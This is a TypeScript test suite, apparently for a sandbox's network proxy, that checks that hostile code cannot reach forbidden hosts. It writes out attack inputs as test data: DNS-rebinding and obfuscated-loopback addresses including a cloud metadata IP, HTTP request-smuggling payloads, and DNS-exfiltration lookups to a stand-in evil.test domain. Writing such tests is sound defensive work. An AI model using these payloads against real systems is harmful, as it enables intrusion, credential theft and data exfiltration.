/** How hostile code in a sandbox tries to reach forbidden hosts. */
import { describe, expect, it } from "vitest";
import type { NetworkSetup } from "./setup.ts";

/** Sends bytes to the proxy exactly as given, and prints the first line of the response. */
const ASK = `ask() { exec 3<>/dev/tcp/127.0.0.1/3128; printf "$1" >&3; IFS= read -r -t 20 line <&3; echo "\${line%$'\\r'}"; exec 3>&-; }; `;

export function attackSuite(setup: () => NetworkSetup): void {
  const ask = async (...requests: readonly string[]): Promise<string[]> => {
    const { stdout, stderr } = await setup().sh(
      ASK + requests.map((request) => `ask '${request}'`).join("; "),
    );
    expect(stderr).toBe("");
    return stdout.trimEnd().split("\n");
  };
  const get = (host: string): string => `GET http://${host}:PORT/attack HTTP/1.1\\r\\n\\r\\n`;
  const FORBIDDEN = "HTTP/1.1 403 Forbidden";

  it.each([
    ["loopback", "127.0.0.2"],
    ["a metadata service", "169.254.169.254"],
    ["a private network", "10.0.0.1"],
    ["the unspecified address", "0.0.0.0"],
    ["a carrier's network", "100.64.0.1"],
    ["multicast", "224.0.0.1"],
    ["IPv6 loopback", "::1"],
    ["an IPv4-mapped IPv6 address", "::ffff:127.0.0.2"],
    ["a translated IPv6 address", "64:ff9b::7f00:2"],
    ["a link-local IPv6 address", "fe80::1"],
  ])("a name that resolves to %s reaches nothing", async (_, address) => {
    const { network, web } = setup();
    network.rules.push(`rebound.test:${String(web.port)}`);
    network.hosts.set("rebound.test", [address]);
    expect(await ask(get("rebound.test"))).toEqual([FORBIDDEN]);
  });

  it("a name that resolves to another address the second time is checked again", async () => {
    const { network, web } = setup();
    network.rules.push(`turns.test:${String(web.port)}`);
    const answers = [["127.0.0.1"], ["169.254.169.254"]];
    network.hosts.set("turns.test", () => answers.shift() ?? []);
    const [first, second] = await ask(get("turns.test"), get("turns.test"));
    expect([first, second]).toEqual(["HTTP/1.1 200 OK", FORBIDDEN]);
    expect(network.asked.filter((name) => name === "turns.test")).toHaveLength(2);
  });

  it.each([
    "2130706433",
    "0177.0.0.1",
    "0x7f000001",
    "127.1",
    "127.0.0.1.",
    "127.0.0.2",
    "[::ffff:127.0.0.2]",
    "[::1]",
    "0",
    "web.test.evil.test",
    "evil-web.test",
  ])("%s reaches nothing", async (host) => {
    const before = setup().network.asked.length;
    const [line] = await ask(get(host));
    expect(line).toBe(FORBIDDEN);
    expect(setup().network.asked).toHaveLength(before);
  });

  it("CONNECT reaches no port that the policy does not name", async () => {
    const connect = (port: string): string => `CONNECT web.test:${port} HTTP/1.1\\r\\n\\r\\n`;
    expect(await ask(connect("22"), connect("25"), connect("PORT"))).toEqual([
      FORBIDDEN,
      FORBIDDEN,
      "HTTP/1.1 200 Connection established",
    ]);
  });

  it("a second request cannot hide behind the first", async () => {
    const { requests } = setup();
    const head = "POST http://web.test:PORT/first HTTP/1.1\\r\\n";
    const hidden = "GET /hidden HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n";
    const lines = await ask(
      `${head}Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${hidden}`,
      `${head}Content-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\n${hidden}`,
      `${head}Transfer-Encoding: chunked, identity\\r\\n\\r\\n0\\r\\n\\r\\n${hidden}`,
      `${head}Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n${hidden}`,
      `${head}X: y\\n${hidden}`,
      `${head}Content-Length: 2\\r\\n\\r\\nok${hidden}`,
      `${head}Transfer-Encoding: chunked\\r\\n\\r\\n2\\r\\nok\\r\\n0\\r\\n\\r\\n${hidden}`,
    );
    const BAD = "HTTP/1.1 400 Bad Request";
    const GOOD = "HTTP/1.1 200 OK";
    expect(lines).toEqual([BAD, BAD, BAD, BAD, BAD, GOOD, GOOD]);
    expect(requests.filter((request) => request.includes("hidden"))).toEqual([]);
    expect(requests.filter((request) => request.includes("first"))).toHaveLength(2);
  });

  describe("names", () => {
    const lookUp = (names: string): string =>
      `/usr/bin/python3 - <<'END'
import socket, time
found = missing = 0
for name in ${names}:
    try:
        socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)
        found += 1
    except socket.gaierror:
        missing += 1
print(found, missing)
END`;

    it("that are forbidden transfer no data", async (context) => {
      if (setup().mode === "proxy") context.skip("there is no name server inside");
      const before = setup().network.asked.length;
      const names = `["secret%d.aGVsbG8gd29ybGQ.evil.test" % n for n in range(50)]`;
      expect((await setup().sh(lookUp(names))).stdout).toBe("0 50\n");
      expect(setup().network.asked).toHaveLength(before);
    });

    it("without end use no memory, and those in use continue to work", async (context) => {
      if (setup().mode === "proxy") context.skip("there is no name server inside");
      const { network, web, channel } = setup();
      network.rules.push(`*.flood.test:${String(web.port)}`);
      const names = `["n%d.flood.test" % n for n in range(1500)]`;
      const { rssBytes } = await channel.ping();
      expect((await setup().sh(lookUp(names))).stdout).toBe("1500 0\n");
      // The kernel holds about 500 listeners; the runner keeps a few hundred names.
      expect((await channel.ping()).rssBytes - rssBytes).toBeLessThan(1 << 20);
      const { stdout } = await setup().sh(
        "exec 3<>/dev/tcp/web.test/PORT; printf 'GET /after HTTP/1.0\\r\\n\\r\\n' >&3; tail -n 1 <&3; exec 3>&-",
      );
      expect(stdout).toBe("GET /after\n");
      expect(network.asked).not.toContain("n1.flood.test");
    });
  });
}
